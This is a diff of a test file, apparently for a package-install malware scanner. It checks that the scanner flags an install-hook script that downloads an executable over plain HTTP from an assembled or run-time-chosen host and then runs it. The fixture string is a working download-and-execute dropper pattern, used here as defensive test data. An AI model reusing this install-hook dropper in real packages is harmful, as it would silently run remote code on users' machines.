@@ -154,22 +154,24 @@ module.exports = {};
     expect(atLeastMedium).toContain(r.level);
   });
 
-  it('a program downloaded with the http module (no https) and run is from plain HTTP even when the host is assembled', () => {
-    const r = scan({
-      'setup.js': `const http = require('http');
+  it('a program downloaded with the http module (no https) and run is from plain HTTP even when the host is chosen at run time; an assembled host is named', () => {
+    const setup = (hostLine: string) => `const http = require('http');
 const fs = require('fs');
 const cp = require('child_process');
-const host = ['198', '51', '100', '23'].join('.');
+${hostLine}
 http.get({ host, path: '/d/svc.exe' }, (res) => {
   const chunks = [];
   res.on('data', (c) => chunks.push(c));
   res.on('end', () => { fs.writeFileSync('C:/Users/Public/svc.exe', Buffer.concat(chunks)); cp.execFileSync('C:/Users/Public/svc.exe'); });
 });
-`,
-    }, { scripts: { install: 'node setup.js' } });
-    const f = r.findings.find((x) => x.messageId === 'download');
-    expect(f?.evidence.from).toMatch(/plain HTTP/);
-    expect(['high', 'critical']).toContain(r.level);
+`;
+    const chosen = scan({ 'setup.js': setup("const host = require('./hosts.json')[process.platform];") }, { scripts: { install: 'node setup.js' } });
+    expect(chosen.findings.find((x) => x.messageId === 'download')?.evidence.from).toMatch(/plain HTTP/);
+    expect(['high', 'critical']).toContain(chosen.level);
+    // The options object's host, assembled from pieces, is known: the address itself is the evidence.
+    const assembled = scan({ 'setup.js': setup("const host = ['198', '51', '100', '23'].join('.');") }, { scripts: { install: 'node setup.js' } });
+    expect(assembled.findings.find((x) => x.messageId === 'download')?.evidence.from).toBe('raw IP address 198.51.100.23');
+    expect(['high', 'critical']).toContain(assembled.level);
   });
 });
 
